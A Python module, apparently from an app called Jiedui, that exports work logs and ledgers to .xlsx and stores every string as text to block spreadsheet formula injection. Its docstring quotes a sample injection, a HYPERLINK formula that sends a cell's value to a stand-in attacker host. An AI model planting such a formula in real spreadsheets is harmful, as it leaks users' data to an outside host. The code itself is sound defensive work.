"""The one way Jiedui writes an .xlsx export (work log, ledgers, assessment, audit log).

``workbook()`` starts an empty workbook, ``add_sheet`` adds a sheet with its header row
(frozen, columns sized), ``append_row`` writes a row, ``to_bytes`` saves it; ``xlsx`` does
all of it for one sheet.

Text is always stored as text. openpyxl turns a ``str`` that starts with "=" into a formula
(and "#N/A" and its kin into error values), so a work-log entry reading
``=HYPERLINK("http://evil.example/?x="&A2,"点击")`` would become a live formula in the
coordinator's spreadsheet. ``append_row`` marks every ``str`` cell as a string, so it reads
back exactly as it was entered (no quote added) and no spreadsheet program evaluates it.
"""
import io
from collections.abc import Iterable, Mapping
from urllib.parse import quote

from openpyxl import Workbook
from openpyxl.utils import get_column_letter

MIN_WIDTH, MAX_WIDTH = 10, 40


def workbook() -> Workbook:
    """A workbook without any sheet (``add_sheet`` adds them)."""
    book = Workbook()
    book.remove(book.active)
    return book


def text_width(text) -> int:
    """How wide ``text`` shows, in characters (Chinese characters are about two wide)."""
    return sum(2 if ord(ch) > 0x2E80 else 1 for ch in str(text or ""))


def add_sheet(book: Workbook, title: str, headers: Iterable, rows: Iterable[Iterable] = (),
              *, widths: Mapping[int, int] | None = None,
              formats: Mapping[int, str] | None = None):
    """A new sheet named ``title`` (cut to Excel's 31 characters): the ``headers`` row,
    frozen, then ``rows``. Each column is as wide as its header (10 to 40) unless ``widths``
    gives its width; ``formats`` gives the number format of a column's cells (both by
    0-based column index)."""
    sheet = book.create_sheet(str(title)[:31] or "sheet")
    headers = list(headers)
    append_row(sheet, headers)
    sheet.freeze_panes = "A2"
    widths = widths or {}
    for index, header in enumerate(headers):
        width = widths.get(index) or max(MIN_WIDTH, min(MAX_WIDTH, text_width(header) + 4))
        sheet.column_dimensions[get_column_letter(index + 1)].width = width
    for values in rows:
        append_row(sheet, values, formats)
    return sheet


def append_row(sheet, values: Iterable, formats: Mapping[int, str] | None = None) -> None:
    """Write ``values`` as the sheet's next row, every ``str`` stored as text (never a
    formula or an error value); ``formats``: number formats by 0-based column index."""
    values = list(values)
    if not values:
        return
    sheet.append(values)
    for index, (cell, value) in enumerate(zip(sheet[sheet.max_row], values)):
        if isinstance(value, str):
            cell.data_type = "s"
        if formats and index in formats and value is not None:
            cell.number_format = formats[index]


def xlsx(title: str, headers: Iterable, rows: Iterable[Iterable] = ()) -> bytes:
    """One sheet as the bytes of an .xlsx file, laid out as the ledgers are (``add_sheet``):
    what a plugin's own export needs."""
    book = workbook()
    add_sheet(book, title, headers, rows)
    return to_bytes(book)


def to_bytes(book: Workbook) -> bytes:
    """The workbook as the bytes of an .xlsx file (an empty workbook gets one blank sheet)."""
    if not book.worksheets:
        book.create_sheet("sheet")
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


XLSX_MIMETYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def download_headers(filename: str, fallback: str) -> dict[str, str]:
    """The HTTP headers of an .xlsx download named ``filename`` (Chinese, RFC 5987) with an
    ASCII ``fallback`` for clients that do not read it, never cached: an export holds what
    only the user who made it may read."""
    return {"Content-Type": XLSX_MIMETYPE,
            "Content-Disposition": f"attachment; filename=\"{fallback}\"; "
                                   f"filename*=UTF-8''{quote(filename)}",
            "Cache-Control": "no-store"}
